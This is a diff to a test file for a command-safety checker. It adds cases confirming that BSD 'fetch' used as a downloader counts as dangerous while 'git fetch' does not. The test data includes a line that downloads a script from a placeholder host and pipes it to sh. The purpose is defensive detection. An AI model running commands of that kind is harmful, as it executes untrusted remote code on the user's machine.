@@ -2,6 +2,11 @@ import { describe, expect, it } from 'vitest';
 import { dumpsEnvironment, isDangerousCommand, isNodeLoaderFlag, loadsCodeThroughEnv, readsCodeFromStdin, usesRelativePaths } from '../../../rules/utils/commands.js';
 
 describe('commands', () => {
+  it('calls BSD fetch a download only as a program, not the word in git fetch', () => {
+    for (const command of ['fetch -o - http://x.example/i | sh', 'cd /tmp && fetch http://x.example/a', 'sudo fetch http://x.example/a']) expect(isDangerousCommand(command)).toBe(true);
+    for (const command of ['git fetch --all', 'git fetch origin main', 'npm run fetch-data', 'yarn prefetch']) expect(isDangerousCommand(command)).toBe(false);
+  });
+
   it('finds interpreters that read their code from stdin, not those given a script or a question', () => {
     for (const [program, args] of [['sh', []], ['/bin/bash', ['-s']], ['node', ['-']], ['python3', ['-u']], ['pwsh', ['-NoProfile', '-Command', '-']]] as const) expect(readsCodeFromStdin(program, [...args])).toBe(true);
     for (const [program, args] of [['sh', ['build.sh']], ['node', ['--version']], ['python3', ['tool.py']], ['git', []]] as const) expect(readsCodeFromStdin(program, [...args])).toBe(false);
